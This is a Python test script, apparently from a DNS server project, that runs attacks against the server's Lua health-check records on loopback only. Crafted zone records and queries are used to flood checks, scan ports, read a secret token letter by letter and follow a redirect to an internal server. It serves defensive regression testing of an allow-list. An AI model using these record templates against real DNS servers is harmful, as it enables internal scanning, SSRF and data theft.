"""What clients make health checks do: how many, and what they learn by them.

    python -m tests.attacks.health_reach [--full] [--before CHECKOUT]

An attacker who can only send queries floods a record that computes an address, looks for open ports
through one that computes a port, and reads a page letter by letter through one that computes what
to look for. A target redirects to what only this machine reaches. All of it stays on loopback, is
bounded in count and time, and reaches nothing but the servers that are started here.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import os
import signal
import socket
import string
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import dns.message

HERE: Final = Path(__file__).resolve().parents[2]
LOCAL: Final = "127.0.0.1"
SECRET: Final = "c0ffee"
LETTERS: Final = string.digits + "abcdef"
_WINDOW: Final = 32
_PATIENCE: Final = 120.0
"""Seconds in which a check that is made has a result at the latest, and answers know of it."""
_ROUNDS: Final = 5
"""Looks for what was asked for before a check that has a result now."""

_LATER: Final = itertools.count()

USUAL: Final = '[health]\nallow = ["127.1.0.0/16"]\n'
"""That part of loopback stands for what everybody reaches."""

ZONE: Final = """\
$TTL 60
@ SOA ns1 hostmaster 1 3h 1h 2w 5m
@ NS ns1
ns1 A 192.0.2.53
*.addr LUA A ( ";local a,b,c = tostring(qname):match('^(%d+)-(%d+)-(%d+)') "
    "return ifurlup('http://x.example:{port}/flood', {{'127.'..a..'.'..b..'.'..c}}, "
    "{{interval=1}})" )
*.port LUA A ( ";local n = tonumber(tostring(qname):match('^(%d+)')) "
    "return ifportup(n, {{'127.0.0.1'}}, {{backupSelector='empty'}})" )
*.page LUA A ( ";local wanted = tostring(qname):match('^(%w+)') "
    "return ifurlup('http://x.example:{port}/page', {{'127.0.0.1'}}, "
    "{{stringmatch='token='..wanted,backupSelector='empty'}})" )
*.later LUA A ( ";local a,b = tostring(qname):match('^(%d+)-(%d+)') "
    "return ifportup({port}, {{'127.1.'..a..'.'..b}}, {{backupSelector='empty'}})" )
moved LUA A "ifurlup('http://x.example:{port}/moved', {{'127.0.0.1'}})"
"""


@dataclass(slots=True)
class Target:
    """A web server on all of 127.0.0.0/8: what it was asked for, by path."""

    port: int = 0
    asked: Counter[str] = field(default_factory=Counter)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer one request."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            head = await reader.readuntil(b"\r\n\r\n")
            path = head.split(b" ", 2)[1].decode()
            self.asked[path] += 1
            body = f"token={SECRET};".encode() if path == "/page" else b"fine"
            status = "200 OK"
            if path == "/moved":
                status = f"302 Found\r\nLocation: http://localhost:{self.port}/inside"
            writer.write(
                f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
            )
            await writer.drain()
        writer.close()


@contextlib.contextmanager
def target() -> Iterator[Target]:
    """One, in a thread of its own."""
    made = Target()
    loop = asyncio.new_event_loop()
    sock = socket.create_server(("0.0.0.0", 0), backlog=1024)
    made.port = sock.getsockname()[1]

    async def begin() -> asyncio.Server:
        return await asyncio.start_server(made.serve, sock=sock)

    server = loop.run_until_complete(begin())
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    try:
        yield made
    finally:
        loop.call_soon_threadsafe(server.close)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(5)


class Server:
    """lzc of a checkout, serving the zone above."""

    def __init__(self, folder: Path, checkout: Path, port: int, health: str) -> None:
        self.folder = folder
        self._environment = {**os.environ, "PYTHONPATH": str(checkout)}
        self.port = _free_port()
        (folder / "zones").mkdir(parents=True)
        (folder / "zones" / "example.org.zone").write_text(ZONE.format(port=port))
        # Versions of before have their settings in one file, and the oldest have no such section.
        settings = (*(checkout / "lzc").glob("config.py"), *(checkout / "lzc").glob("config/*.py"))
        if not any("class HealthSection" in file.read_text() for file in settings):
            health = ""
        (folder / "lzc.toml").write_text(
            '[build]\nsources = ["zones/*.zone"]\n[lua]\nenable = true\n'
            f'{health}[serve]\nlisten = ["{LOCAL}:{self.port}"]\n'
        )
        self._run("build")

    def _run(self, *arguments: str) -> str:
        command = [sys.executable, "-m", "lzc", *arguments, "-c", str(self.folder / "lzc.toml")]
        done = subprocess.run(
            command, env=self._environment, cwd=self.folder, capture_output=True, text=True
        )
        if done.returncode:
            raise RuntimeError(done.stderr)
        return done.stdout

    @contextlib.contextmanager
    def running(self) -> Iterator[None]:
        """Serve, until the block ends."""
        command = [sys.executable, "-m", "lzc", "serve", "-c", str(self.folder / "lzc.toml")]
        with (self.folder / "log").open("wb") as log:
            process = subprocess.Popen(
                command, env=self._environment, cwd=self.folder, stdout=log, stderr=log
            )
        try:
            self._wait(process)
            yield
        finally:
            process.send_signal(signal.SIGTERM)
            process.wait(20)

    def _wait(self, process: subprocess.Popen[bytes]) -> None:
        end = time.monotonic() + 60
        while time.monotonic() < end and process.poll() is None:
            with contextlib.suppress(OSError):
                if self.ask("ns1"):
                    return
        raise RuntimeError((self.folder / "log").read_text())

    def ask(self, name: str) -> list[str]:
        """The addresses that a query gets. Raises `OSError`."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            sock.connect((LOCAL, self.port))
            sock.send(dns.message.make_query(f"{name}.example.org", "A").to_wire())
            answer = dns.message.from_wire(sock.recv(4096))
        return [str(rdata) for rrset in answer.answer for rdata in rrset]

    def flood(self, names: Iterator[str]) -> int:
        """Ask for all names, some at a time; how many queries were sent."""
        sent = 0
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.5)
            sock.connect((LOCAL, self.port))
            for name in names:
                sock.send(dns.message.make_query(f"{name}.example.org", "A").to_wire())
                sent += 1
                if sent % _WINDOW == 0:
                    with contextlib.suppress(TimeoutError):
                        for _ in range(_WINDOW):
                            sock.recv(4096)
        return sent

    def checker(self) -> dict[str, Any]:
        """What ``lzc ctl status`` says of health checks."""
        found: dict[str, Any] = json.loads(self._run("ctl", "status", "--format", "json"))
        checker: dict[str, Any] = found["checker"]
        return checker


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind((LOCAL, 0))
        return int(sock.getsockname()[1])


def flood(server: Server, web: Target, queries: int, seconds: float) -> dict[str, float]:
    """Queries, each for another address: the checks that are left, and their requests a second."""
    sent = server.flood(f"1-{number // 250}-{number % 250 + 1}.addr" for number in range(queries))
    time.sleep(2)
    before, begun = web.asked["/flood"], time.monotonic()
    time.sleep(seconds)
    rate = (web.asked["/flood"] - before) / (time.monotonic() - begun)
    return {"queries": sent, "checks": server.checker()["unlisted"], "requests/s": rate}


def scan(server: Server, closed: int) -> dict[str, float]:
    """Look for three open ports among some closed ones: how many were found."""
    with contextlib.ExitStack() as stack:
        socks = [stack.enter_context(socket.create_server((LOCAL, 0))) for _ in range(3)]
        opened = {int(sock.getsockname()[1]) for sock in socks}
        ports = [*opened, *range(1, closed + 1)]
        found = _learned(server, {str(port): f"{port}.port" for port in ports}, enough=3)
    return {"ports": len(ports), "open": len(opened), "found": len(found & set(map(str, opened)))}


def read_page(server: Server, length: int) -> dict[str, float]:
    """Read a token of a page that only this machine sees: how many letters are known."""
    known = ""
    queries = 0
    for _ in range(length):
        names = {letter: f"{known}{letter}.page" for letter in LETTERS}
        queries += len(names)
        found = _learned(server, names, enough=1)
        if len(found) != 1:
            break
        known += found.pop()
    right = len(known) if SECRET.startswith(known) else 0
    return {"queries": queries, "letters": length, "read": right}


def _learned(server: Server, names: dict[str, str], enough: int) -> set[str]:
    """Which names are answered with an address: ``enough`` of them, or those until after a check
    was made that is allowed, and was asked for later."""
    found: set[str] = set()
    end = time.monotonic() + _PATIENCE
    rounds = 0
    later = f"{next(_LATER) // 250}-{next(_LATER) % 250 + 1}.later"
    while time.monotonic() < end and len(found) < enough and rounds < _ROUNDS:
        found = {what for what, name in names.items() if server.ask(name)}
        rounds += bool(server.ask(later))
        time.sleep(0.3)
    return found


def redirect(_: Server, web: Target) -> dict[str, float]:
    """A target of the zone sends the checker to this machine's own server: how often it came."""
    end = time.monotonic() + _PATIENCE
    while time.monotonic() < end and not web.asked["/inside"] and web.asked["/moved"] < 3:
        time.sleep(0.2)
    return {"redirected": web.asked["/moved"], "came": web.asked["/inside"]}


def attack(checkout: Path, *, full: bool, health: str = USUAL) -> dict[str, dict[str, float]]:
    """All of it on the lzc of a checkout, by name; ``health`` are settings of its own."""
    with tempfile.TemporaryDirectory(prefix="lzc-attack-") as folder, target() as web:
        server = Server(Path(folder) / "project", checkout, web.port, health)
        with server.running():
            found = {
                "redirect": redirect(server, web),
                "page": read_page(server, len(SECRET) if full else 1),
                "ports": scan(server, 40 if full else 3),
            }
            found["flood"] = flood(server, web, *((20_000, 10.0) if full else (600, 2.0)))
        return found


def main(options: list[str] | None = None) -> None:
    """Print what the attacks did."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.health_reach")
    parser.add_argument("--full", action="store_true", help="not the short form of the tests")
    parser.add_argument("--before", type=Path, help="a checkout of another version of lzc")
    arguments = parser.parse_args(options)
    for label, checkout in (("before", arguments.before), ("now", HERE)):
        if checkout is None:
            continue
        for name, figures in attack(checkout.resolve(), full=arguments.full).items():
            text = ", ".join(f"{what} {value:,.0f}" for what, value in figures.items())
            print(f"{label:7} {name:9} {text}", flush=True)


if __name__ == "__main__":
    main()
